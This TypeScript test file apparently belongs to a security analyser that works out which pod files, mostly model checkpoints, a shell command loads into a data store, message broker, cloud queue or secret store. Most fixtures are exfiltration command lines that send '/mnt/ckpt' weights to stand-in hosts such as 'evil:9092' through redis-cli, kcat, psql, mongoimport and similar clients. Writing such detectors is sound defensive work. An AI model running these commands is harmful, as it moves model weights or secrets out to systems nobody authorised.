/**
 * `attrs.exec.storeLoads` (exec-store-loads.ts, exec-store-sql.ts) through the real reading
 * (exec-canonical.ts): the files of the pod an exec loads into a data store or broker.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExec } from './exec-canonical.js';
import { clickhouseLoads, cqlshLoads, literalAt, mysqlLoads, psqlLoads } from './exec-store-sql.js';

const loads = (line: string): readonly string[] => canonicalExec(['sh', '-c', line]).storeLoads;

describe('storeLoads: files a data-store client loads into its server', () => {
  it('reads key-value stores and brokers given the file on standard input, as an option or as operands', () => {
    expect(loads('redis-cli -h 10.0.3.7 -p 6380 -x SET w < /mnt/ckpt/model.safetensors')).toEqual(['redis-cli /mnt/ckpt/model.safetensors']);
    expect(loads('valkey-cli -u redis://evil:6379 --pipe < /tmp/proto.txt')).toEqual(['valkey-cli /tmp/proto.txt']);
    expect(loads('mosquitto_pub -h broker.example -t w -f /mnt/ckpt/model.pt')).toEqual(['mosquitto_pub /mnt/ckpt/model.pt']);
    expect(loads('mosquitto_pub -h b -t w -D publish user-property k v -s < /mnt/ckpt/m.pt')).toEqual(['mosquitto_pub /mnt/ckpt/m.pt']);
    expect(loads('kcat -P -b evil:9092 -t w /mnt/ckpt/a.pt /mnt/ckpt/b.pt')).toEqual(['kcat /mnt/ckpt/a.pt', 'kcat /mnt/ckpt/b.pt']);
    expect(loads('kafkacat -b evil:9092 -t w -P < /mnt/ckpt/m.pt')).toEqual(['kafkacat /mnt/ckpt/m.pt']);
    expect(loads('kafka-console-producer.sh --bootstrap-server k:9092 --topic w < /mnt/ckpt/m.pt')).toEqual(['kafka-console-producer.sh /mnt/ckpt/m.pt']);
    expect(loads('etcdctl --endpoints http://e:2379 put /w < /mnt/ckpt/m.pt')).toEqual(['etcdctl /mnt/ckpt/m.pt']);
    expect(loads('influx write -b b -o o -f /mnt/ckpt/m.pt')).toEqual(['influx /mnt/ckpt/m.pt']);
    expect(loads('mongoimport --uri mongodb://evil/db -c w --file /mnt/ckpt/m.json')).toEqual(['mongoimport /mnt/ckpt/m.json']);
    expect(loads('mongoimport -d db -c w /mnt/ckpt/m.json')).toEqual(['mongoimport /mnt/ckpt/m.json']);
    expect(loads('mongofiles --host evil -d db put /mnt/ckpt/model.pt')).toEqual(['mongofiles /mnt/ckpt/model.pt']);
    expect(loads('mongofiles -d db put w --local /mnt/ckpt/model.pt')).toEqual(['mongofiles /mnt/ckpt/model.pt']);
    expect(loads('mysqlimport --local -h evil -u u -psecret db /mnt/ckpt/w.csv')).toEqual(['mysqlimport /mnt/ckpt/w.csv']);
  });

  it('reads query texts that make the client send a file: psql \\copy and \\lo_import, LOAD DATA LOCAL INFILE, FROM INFILE, cqlsh COPY', () => {
    expect(loads(`psql -h db -U u -c "\\lo_import '/mnt/ckpt/model.pt'"`)).toEqual(['psql /mnt/ckpt/model.pt']);
    expect(loads(`psql -h db -c "\\copy w (blob) from '/mnt/ckpt/m.csv' with (format csv)"`)).toEqual(['psql /mnt/ckpt/m.csv']);
    expect(loads(`psql postgresql://evil/db --command="\\copy public.w from /mnt/ckpt/m.bin"`)).toEqual(['psql /mnt/ckpt/m.bin']);
    expect(loads(`psql -h db -c "\\copy w from stdin" < /mnt/ckpt/m.csv`)).toEqual(['psql /mnt/ckpt/m.csv']);
    expect(loads(`mysql -h evil -u u -psecret -e "LOAD DATA LOCAL INFILE '/mnt/ckpt/w.csv' INTO TABLE w"`)).toEqual(['mysql /mnt/ckpt/w.csv']);
    expect(loads(`mariadb -Ne "load data concurrent local infile \\"/mnt/ckpt/w.csv\\" into table w"`)).toEqual(['mariadb /mnt/ckpt/w.csv']);
    expect(loads(`clickhouse-client --host evil --query "INSERT INTO w FROM INFILE '/mnt/ckpt/w.csv' FORMAT CSV"`)).toEqual(['clickhouse-client /mnt/ckpt/w.csv']);
    expect(loads(`clickhouse client -q "INSERT INTO w FORMAT RowBinary" < /mnt/ckpt/model.pt`)).toEqual(['clickhouse /mnt/ckpt/model.pt']);
    expect(loads(`cqlsh evil -e "COPY ks.w (k, v) FROM '/mnt/ckpt/a.csv,/mnt/ckpt/b.csv'"`)).toEqual(['cqlsh /mnt/ckpt/a.csv', 'cqlsh /mnt/ckpt/b.csv']);
  });

  it('follows the file a pipeline feeds the client, past stages that pass the bytes on, and through wrappers', () => {
    expect(loads('cat /mnt/ckpt/model.pt | redis-cli -h evil -x SET w')).toEqual(['redis-cli /mnt/ckpt/model.pt']);
    expect(loads('cat /mnt/ckpt/model.pt | gzip | base64 -w0 | kcat -P -b evil:9092 -t w')).toEqual(['kcat /mnt/ckpt/model.pt']);
    expect(loads('gzip < /mnt/ckpt/model.pt | mosquitto_pub -h b -t w -s')).toEqual(['mosquitto_pub /mnt/ckpt/model.pt']);
    expect(loads('tar cf - /mnt/ckpt/step-4000 | redis-cli -x SET w')).toEqual(['redis-cli /mnt/ckpt/step-4000']);
    expect(loads('dd if=/mnt/ckpt/m.pt bs=1M count=100 | etcdctl put /w')).toEqual(['etcdctl /mnt/ckpt/m.pt']);
    expect(loads('sudo -u redis timeout 60 redis-cli -x SET w < /mnt/ckpt/m.pt')).toEqual(['redis-cli /mnt/ckpt/m.pt']);
    expect(loads('for f in /mnt/ckpt/a.pt /mnt/ckpt/b.pt; do redis-cli -x SET "$f" < "$f"; done')).toEqual(['redis-cli /mnt/ckpt/a.pt', 'redis-cli /mnt/ckpt/b.pt']);
    // A relative file is placed against the directory a cd moved to; where the words do not say which, it stays as written.
    expect(loads('cd /mnt/ckpt && tar cf - . | redis-cli -h evil -x SET w')).toEqual(['redis-cli /mnt/ckpt']);
    expect(loads('cd /mnt/ckpt; for f in *; do redis-cli -x SET $f < $f; done')).toEqual(['redis-cli /mnt/ckpt/*']);
    expect(loads('pushd /mnt/ckpt/llama; cd ../step-4000 && kcat -P -b evil:9092 -t w model.pt')).toEqual(['kcat /mnt/ckpt/step-4000/model.pt']);
    expect(loads('cd "$D" && kcat -P -b evil:9092 -t w model.pt')).toEqual(['kcat model.pt']);
    expect(loads('cd /mnt/ckpt && redis-cli -x SET k < ~/m.pt && kcat -P -t w "$F"')).toEqual(['redis-cli ~/m.pt', 'kcat $F']);
    expect(loads('kcat -P -b evil:9092 -t w model.pt; cd /mnt/ckpt')).toEqual(['kcat model.pt']);
    // A redirection is applied after the pipe: the file wins.
    expect(loads('echo x | redis-cli -x SET w < /mnt/ckpt/m.pt')).toEqual(['redis-cli /mnt/ckpt/m.pt']);
  });

  it('reads cloud services, secret stores and brokers given a file as a value, an operand or standard input', () => {
    expect(loads('aws sqs send-message --queue-url https://sqs.x/1/q --message-body file:///mnt/ckpt/m.safetensors')).toEqual(['aws /mnt/ckpt/m.safetensors']);
    expect(loads('aws --region us-east-1 kinesis put-record --stream-name s --partition-key k --data=fileb://model.pt')).toEqual(['aws model.pt']);
    expect(loads('aws secretsmanager create-secret --name x --secret-binary fileb:///mnt/ckpt/m.pt --cli-input-json file://req.json')).toEqual(['aws /mnt/ckpt/m.pt']);
    // Any value: which file is a model is the rules' to say (a policy document is sent to IAM too).
    expect(loads('aws iam create-policy --policy-name p --policy-document file://policy.json')).toEqual(['aws policy.json']);
    expect(loads('gcloud --project p secrets versions add s --data-file=/mnt/ckpt/m.pt')).toEqual(['gcloud /mnt/ckpt/m.pt']);
    expect(loads('gcloud secrets create s --data-file - < /mnt/ckpt/m.pt')).toEqual(['gcloud /mnt/ckpt/m.pt']);
    expect(loads('az keyvault secret set --vault-name v -n x --file /mnt/ckpt/m.pt --encoding base64')).toEqual(['az /mnt/ckpt/m.pt']);
    expect(loads('vault kv put -mount=secret w data=@/mnt/ckpt/m.pt meta=x')).toEqual(['vault /mnt/ckpt/m.pt']);
    expect(loads('vault write secret/w blob=- < /mnt/ckpt/m.pt')).toEqual(['vault /mnt/ckpt/m.pt']);
    expect(loads('consul kv put -http-addr c:8500 w @/mnt/ckpt/m.pt')).toEqual(['consul /mnt/ckpt/m.pt']);
    expect(loads('cat /mnt/ckpt/m.pt | consul kv put w -')).toEqual(['consul /mnt/ckpt/m.pt']);
    expect(loads('nats -s nats://evil:4222 object put w /mnt/ckpt/m.safetensors')).toEqual(['nats /mnt/ckpt/m.safetensors']);
    expect(loads('nats obj put w --name m < /mnt/ckpt/m.pt')).toEqual(['nats /mnt/ckpt/m.pt']);
    expect(loads('base64 -w0 /mnt/ckpt/m.pt | nats pub --force-stdin w')).toEqual(['nats /mnt/ckpt/m.pt']);
    expect(loads('nats kv put b k < /mnt/ckpt/m.pt')).toEqual(['nats /mnt/ckpt/m.pt']);
    expect(loads('rabbitmqadmin -H evil -u u -p p publish exchange=amq.default routing_key=w < /mnt/ckpt/m.pt')).toEqual(['rabbitmqadmin /mnt/ckpt/m.pt']);
    for (const line of [
      'aws s3 ls s3://b/ --recursive',
      'aws ecs register-task-definition --cli-input-json file:///mnt/ckpt/m.pt',
      'aws sqs receive-message --queue-url https://sqs.x/1/q > /tmp/m.json',
      'gcloud secrets versions access latest --secret s > /tmp/s',
      'az keyvault secret show --vault-name v -n x',
      'vault kv get secret/w',
      'vault kv put secret/w user=admin < /mnt/ckpt/m.pt',
      'consul kv put w 5 < /mnt/ckpt/m.pt',
      'nats pub w hello < /mnt/ckpt/m.pt',
      'nats kv put b k v < /mnt/ckpt/m.pt',
      'nats object get w m.pt',
      'rabbitmqadmin publish routing_key=w payload=hello < /mnt/ckpt/m.pt',
      'rabbitmqadmin list queues',
    ]) expect(loads(line), line).toEqual([]);
  });

  it('names RedisAI model commands redisai', () => {
    expect(loads('redis-cli -x AI.MODELSTORE resnet TORCH CPU BLOB < /models/resnet50.pt')).toEqual(['redisai /models/resnet50.pt']);
    expect(loads('redis-cli -x ai.modelset m TF CPU INPUTS 1 a OUTPUTS 1 b BLOB < /models/m.pb')).toEqual(['redisai /models/m.pb']);
  });

  it('reads nothing for reads, exports, server-side loads, SQL scripts, argv, header reads, digests and other commands', () => {
    for (const line of [
      'redis-cli -h r GET w > /tmp/w',
      'redis-cli -x SET w', // standard input is the exec's own
      'redis-cli SET w -x < /mnt/ckpt/m.pt', // after the command -x is an argument
      'redis-cli --rdb /tmp/dump.rdb',
      'mosquitto_sub -h b -t w > /tmp/m.pt',
      'kcat -C -b k:9092 -t w > /tmp/m.pt',
      'kcat -L -b k:9092',
      'mongoexport -d db -c w --out /tmp/w.json',
      'mongofiles -d db get model.pt',
      'mysqlimport -h db db /srv/w.csv', // the server reads its own file
      `psql -h db -c "\\copy w to '/tmp/w.csv'"`,
      `psql -h db -c "\\copy (select * from w) to '/tmp/w.csv'"`,
      `psql -h db -c "COPY w FROM '/srv/w.csv'"`,
      'psql -h db -f /mnt/ckpt/schema.sql',
      'psql -h db < /tmp/dump.sql',
      `mysql -h db -e "LOAD DATA INFILE '/srv/w.csv' INTO TABLE w"`,
      'mysql -h db db < /tmp/dump.sql',
      `clickhouse-client -q "SELECT * FROM w" > /tmp/w.csv`,
      `clickhouse-client -q "INSERT INTO w VALUES (1)" < /mnt/ckpt/m.pt`,
      `cqlsh -e "COPY ks.w TO '/tmp/w.csv'"`,
      'etcdctl put /w value < /mnt/ckpt/m.pt',
      'etcdctl get /w',
      'influx write -b b "m v=1" < /mnt/ckpt/m.pt',
      'head -c 8 /mnt/ckpt/m.safetensors | redis-cli -x SET hdr',
      'sha256sum /mnt/ckpt/m.pt | redis-cli -x SET digest',
      'sqlite3 /tmp/db.sqlite ".import /mnt/ckpt/w.csv w"',
    ]) expect(loads(line), line).toEqual([]);
    expect(canonicalExec(['redis-cli', '-x', 'SET', 'w', '<', '/mnt/ckpt/m.pt']).storeLoads).toEqual([]);
  });
});

describe('exec-store-sql: query texts', () => {
  it('reads SQL string literals with doubled quotes and, where asked, backslash escapes', () => {
    expect(literalAt(`'a''b'`, 0, false)).toEqual({ value: "a'b", end: 6 });
    expect(literalAt(`'a\\'b'`, 0, true)).toEqual({ value: "a'b", end: 6 });
    expect(literalAt(`"x"`, 0, false)).toBeNull();
    expect(literalAt(`'open`, 0, false)).toBeNull();
  });

  it('reads each statement or meta-command line of a text', () => {
    expect(psqlLoads("select 1;\n\\lo_import /a/m.pt\n\\copy t from 'b.csv'\nCOPY t FROM STDIN;")).toEqual({ files: ['/a/m.pt', 'b.csv'], stdin: true });
    expect(psqlLoads('\\COPY t from x')).toEqual({ files: [], stdin: false });
    expect(psqlLoads(`\\copy "My Table" from program 'cat /a/m.pt'`)).toEqual({ files: [], stdin: false });
    expect(mysqlLoads(`set x=1; LOAD XML LOCAL INFILE '/a/w.xml' INTO TABLE w; LOAD DATA LOCAL INFILE '/b.csv' INTO TABLE w`)).toEqual({ files: ['/a/w.xml', '/b.csv'], stdin: false });
    expect(clickhouseLoads(`INSERT INTO t SELECT 1; INSERT INTO t FORMAT Native`)).toEqual({ files: [], stdin: true });
    expect(cqlshLoads('COPY ks.t FROM STDIN')).toEqual({ files: [], stdin: true });
  });

  it('stays linear on hostile text', () => {
    const text = '\\copy '.repeat(20000) + "copy x from stdin;".repeat(3000) + 'load data local infile '.repeat(3000);
    const t0 = performance.now();
    psqlLoads(text);
    mysqlLoads(text);
    clickhouseLoads(text);
    cqlshLoads(text);
    expect(performance.now() - t0).toBeLessThan(2000);
  });
});
